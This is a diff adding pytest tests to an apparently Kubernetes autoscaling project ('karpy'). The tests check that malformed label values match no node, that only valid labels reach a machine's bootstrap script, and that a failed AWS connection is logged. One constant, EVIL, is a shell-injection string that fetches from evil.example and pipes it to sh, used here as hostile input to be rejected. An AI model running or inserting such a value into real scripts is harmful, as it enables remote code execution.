@@ -23,11 +23,19 @@ from karpy.adapters.clouds.aws.soldout import SoldOut
 from karpy.adapters.kube.fence import Fence
 from karpy.codec.aws.nodeclasses import read_node_class
 from karpy.codec.fields import FieldInvalid, Fields, JsonObject
+from karpy.codec.pods import PodReader
 from karpy.core.aws.catalog import CatalogMaker
 from karpy.core.aws.instancesettings import settings_of
+from karpy.core.aws.userdata.bootstrap import UserDataInvalid, node_labels
+from karpy.core.scheduling.decide import decide
 from karpy.errors import CloudError, CloudUnavailable, KarpyError, LeadershipUncertain
+from karpy.model.constraints import NodeTerm
 from karpy.model.ec2types import InstanceSettings
 from karpy.ports.cloud import MachineFate
+from karpy.wiring.embedded import embedded_world, serve
+from karpy.wiring.options import read_options
+from karpy.wiring.process import Crashed, run_process
+from tests.builders import exists, pod, pool, snapshot
 from tests.builders.ec2 import C6G_LARGE, M5_LARGE, region
 from tests.hostile.mutations import EXTREMES, paths_of, put
 from tests.hostile.mutations import Path as ObjectPath
@@ -313,3 +321,58 @@ def test_an_amount_of_a_node_class_that_is_none_is_named(kubelet: JsonObject, pa
         read_node_class(Fields(obj))
 
     assert path in caught.value.path
+
+
+EVIL = "x'; curl evil.example|sh; '"
+
+
+def reading(*values: str) -> tuple[NodeTerm, ...]:
+    expression = {"key": "team", "operator": "In", "values": [*values]}
+    terms = {"nodeSelectorTerms": [{"matchExpressions": [expression]}]}
+    node = {"requiredDuringSchedulingIgnoredDuringExecution": terms}
+    container = {"name": "c", "image": "i"}
+    spec = {"containers": [container], "affinity": {"nodeAffinity": node}}
+    return PodReader().read({"metadata": {"name": "p"}, "spec": spec}).rules.required_node_terms
+
+
+def test_a_term_of_label_values_says_what_it_says() -> None:
+    (term,) = reading("shop", "", "a" * 63)
+
+    assert [each.values for each in term.expressions] == [{"shop", "", "a" * 63}]
+
+
+@pytest.mark.parametrize("others", [(), ("shop",)])
+@pytest.mark.parametrize("value", [EVIL, "a" * 64, "a\nb", "é", "-a"])
+def test_a_term_with_a_value_that_no_label_can_have_matches_no_node(
+    value: str, others: tuple[str, ...]
+) -> None:
+    (term,) = reading(*others, value)
+    teams = pool(requirements=[exists("team")])
+
+    verdict = decide(snapshot(pools=[teams], pods=[pod("p", terms=[term])]))
+
+    assert term.is_blank
+    assert verdict.launches == ()
+
+
+@pytest.mark.parametrize(("key", "value"), [("team", EVIL), (EVIL, "shop"), ("team", "a\nb")])
+def test_nothing_but_labels_gets_into_the_script_of_a_machine(key: str, value: str) -> None:
+    with pytest.raises(UserDataInvalid, match="is no label"):
+        node_labels({key: value}, "spot")
+
+
+async def test_the_last_words_of_an_operator_that_aws_refuses_are_a_line_of_its_log(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async def connect(**_: object) -> AwsClient:
+        raise CloudUnavailable(call="ec2:DescribeInstanceTypes", problem="no credentials")
+
+    monkeypatch.setattr("karpy.wiring.clouds.aws.connect_aws", connect)
+    async with embedded_world() as world, serve(world) as served:
+        log = tmp_path / "log"
+        words = (f"--kubeconfig={served.kubeconfig}", f"--log-output-paths={log}", "--provider=aws")
+        with pytest.raises(Crashed):
+            await run_process(read_options(words, {}), {}, asyncio.Event())
+
+    last = json.loads(log.read_text().splitlines()[-1])
+    assert (last["message"], last["code"]) == ("operator has ended", CloudUnavailable.code)
